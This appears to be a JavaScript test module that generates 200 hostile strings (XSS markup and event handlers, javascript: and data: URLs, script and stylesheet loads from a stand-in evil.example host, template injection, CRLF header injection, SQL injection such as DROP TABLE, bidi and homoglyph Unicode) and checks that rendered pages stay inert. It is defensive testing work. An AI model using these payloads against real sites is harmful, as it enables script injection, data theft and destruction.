// 200 texts that try to be more than text, for every field that another party controls.

import assert from 'node:assert/strict'

const RUN = 'window.struck=1'

const TAGS = ['script', 'img', 'svg', 'iframe', 'body', 'video', 'object', 'embed', 'math', 'style', 'link', 'base', 'form', 'marquee', 'details', 'template']
const EVENTS = ['onerror', 'onload', 'onclick', 'ontoggle', 'onfocus', 'onanimationstart', 'onbegin', 'onpointerenter']

const markup = [
  `<script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</noscript><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `]]><script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script/x>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"></svg>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${RUN}></style>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="x\`\`onerror=${RUN}">`,
  `<img/src/onerror=${RUN}>`,
  `<a href="javascript:${RUN}">a</a>`,
  `<a href="java\tscript:${RUN}">a</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>*{display:none}</style>`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `" onmouseover="${RUN}" x="`,
  `' onmouseover='${RUN}' x='`,
  `" autofocus onfocus="${RUN}`,
  `" style="display:none" x="`,
  `x" formaction="https://evil.example/" y="`
]

const schemes = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `javascript://%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:msgbox(1)`,
  `//evil.example/x`,
  `https://evil.example/x.js`,
  `\\\\evil.example\\x`
]

const templates = ['{{title}}', '{{#items}}x{{/items}}', '{{>head}}', '{{/x}}', '${window.struck=1}', '#{1+1}', '<%= 1 %>', '{%x%}', '{{constructor.constructor("window.struck=1")()}}', '%s%n%x', '%00', '%0d%0aSet-Cookie:x=1']

const encoded = ['&lt;script&gt;', '&#60;script&#62;', '&#x3c;script&#x3e;', '&amp;lt;b&amp;gt;', '%3Cscript%3E', '\\u003cscript\\u003e', '\\x3cscript\\x3e', '＜script＞', '‹script›', '+ADw-script+AD4-', '&quot;&gt;', '&NewLine;', '&Tab;', '&nbsp;']

// What turns the order of letters round, hides them or looks like others.
const letters = ['\u202e', '\u202d', '\u202a', '\u2066', '\u2067', '\u2068', '\u200e', '\u200f', '\u200b', '\u200d', '\ufeff', '\u00ad', '\u2028', '\u2029', '\u0301'.repeat(50), '\u034f', '\u180e', '\u3164', '\ufff9', '\u{e0041}', '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}', '\u0430pple.example', '\u2044', '\u{1d5ee}', '\ufdfd']

const long = ['x'.repeat(5000), 'a '.repeat(2000), '\u6f22'.repeat(1500), '-'.repeat(4000), '/'.repeat(3000), '<b>'.repeat(1000), '&'.repeat(3000), '"'.repeat(3000)]

const sql = [`' OR 1=1 --`, `"; DROP TABLE wallet; --`, `'||(SELECT 1)||'`, `\\'; --`, `1 UNION SELECT NULL`, `x' AND 1=0 --`]

const all = [...markup, ...schemes, ...templates, ...encoded, ...letters.map((c) => `Bob${c}gpj.exe${c} Example`), ...long, ...sql]
for (const tag of TAGS) {
  for (const event of EVENTS) {
    if (all.length < 200) all.push(`<${tag} ${event}=${RUN} src=x href=x autofocus open>`)
  }
}
assert.equal(new Set(all).size, 200)

/** The 200 texts; `max`: cut to so many bytes of UTF-8, as the field allows. */
export function hostile(max = Infinity) {
  return all.map((text) => {
    let s = text
    while (Buffer.byteLength(s) > max) s = [...s].slice(0, Math.floor([...s].length * Math.min(0.9, max / Buffer.byteLength(s)))).join('')
    return s
  })
}

/** What a page's HTML has that only a text of ours could have put there. */
export function skeleton(page) {
  return page.evaluate(() => {
    const counts = {}
    for (const e of document.querySelectorAll('*')) {
      for (const key of [e.localName, ...[...e.attributes].map((a) => `${e.localName}[${a.name}]`)]) counts[key] = (counts[key] ?? 0) + 1
    }
    return counts
  })
}

/** The same of pages as they come over HTTP, parsed by Chromium. */
export function skeletons(page, pages) {
  return page.evaluate((all) => {
    return all.map((html) => {
      const seen = {}
      for (const e of new DOMParser().parseFromString(html, 'text/html').querySelectorAll('*')) {
        for (const key of [e.localName, ...[...e.attributes].map((a) => `${e.localName}[${a.name}]`)]) seen[key] = (seen[key] ?? 0) + 1
      }
      return seen
    })
  }, pages)
}

/**
 * Opens the page once with a harmless text and once with each hostile one: its elements and attributes must stay the same ones,
 * nothing may run or be asked for. `show(text)`: makes the text stand in the page and leads `page` there.
 */
export async function staysInert(page, show, texts = hostile()) {
  await show('Bob Example')
  const harmless = await skeleton(page)
  for (const text of texts) {
    await show(text)
    assert.deepEqual(await skeleton(page), harmless, `the text ${JSON.stringify(text.slice(0, 80))} changed the page`)
    assert.equal(await page.evaluate(() => window.struck), undefined, text.slice(0, 80))
    assert.deepEqual(page.faults, [], text.slice(0, 80))
  }
}

/**
 * The same of many pages at once, as they come over HTTP: `get(text)` gives the HTML in which the text stands, or null where the
 * server refuses to keep it. Chromium parses each; elements and attributes must be those of the harmless one.
 * -> how many were kept
 */
export async function parsesInert(page, get, texts = hostile()) {
  const pages = [await get('Bob Example')]
  const names = ['Bob Example']
  for (const text of texts) {
    const html = await get(text)
    if (html === null) continue
    pages.push(html)
    names.push(text.slice(0, 80))
  }
  const counts = await skeletons(page, pages)
  for (let i = 1; i < counts.length; i++) assert.deepEqual(counts[i], counts[0], `the text ${JSON.stringify(names[i])} changed the page`)
  return counts.length - 1
}
